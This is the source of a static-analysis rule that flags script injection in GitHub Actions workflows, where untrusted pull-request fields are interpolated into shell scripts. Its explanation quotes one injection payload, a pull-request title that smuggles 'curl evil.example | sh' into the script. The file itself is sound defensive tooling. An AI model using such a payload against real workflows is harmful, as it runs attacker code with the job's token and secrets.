import type { Step } from "../../languages/workflow/model.ts";
import { fixesOf, moveToEnv } from "../../pipeline/edit.ts";
import { templatesOf, untrustedIn } from "../../pipeline/untrusted.ts";
import { defineRule } from "../../rule.ts";

export default defineRule({
  id: "workflow/script-injection",
  language: "workflow",
  alsoChecks: ["action"],
  category: "security",
  severity: "error",
  preset: "recommended",
  summary: "A text that strangers choose is written into a script.",
  why: `
\`\${{ }}\` is put into the script before the shell reads it. A pull request with the title \`"; curl evil.example | sh #\` runs that command, with the job's token and secrets. Titles, bodies, comments, branch names, commit messages and names of authors are chosen by strangers; \`toJSON(github.event)\` has them all.

Pass the value through \`env\` and read the variable in quotes: then it is data, whatever it holds. In \`actions/github-script\` read \`process.env\` or \`context.payload\`.

Silent for values that cannot hold code (numbers, commits, names of repositories), for comparisons and functions that answer yes or no, and where no trigger of the workflow brings the value.`,
  examples: [
    {
      title: "The title of a pull request",
      bad: 'on: pull_request\npermissions: {}\njobs:\n  title:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./check-title.sh "${{ github.event.pull_request.title }}"\n',
      good: 'on: pull_request\npermissions: {}\njobs:\n  title:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./check-title.sh "$PR_TITLE"\n        env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n',
    },
  ],
  links: [
    "https://docs.github.com/en/actions/concepts/security/script-injections",
    "https://docs.github.com/en/actions/reference/security/secure-use",
  ],
  since: "0.2.0",
  fix: "safe",
  patterns: [],
  alsoKnownAs: ["actionlint:expression", "zizmor:template-injection", "scorecard:Dangerous-Workflow"],
  uncovers: ["workflow/environment-file-injection"],
  judges: "part",
  check(file, { report }) {
    for (const step of file.steps) {
      for (const place of templatesOf(step)) {
        const found = untrustedIn(place, file, step.job, step);
        if (!found) continue;
        const by = found.variable === undefined ? "" : ` (by \`${found.variable}\`)`;
        report({
          span: found.span,
          message: `\`${found.path}\`${by} is written into the script before that is read, so whoever chooses it can run commands here. Pass it through \`env\`, and read the variable.`,
          fixes: isExpandedAgain(step) ? [] : fixesOf("Pass it through `env`", "safe", file, moveToEnv(step, [place])),
        });
      }
    }
  },
});

/** `cmd` puts variables into the line before it reads that, as well. */
function isExpandedAgain({ shell }: Step): boolean {
  return /^cmd\b/.test(shell ?? "");
}
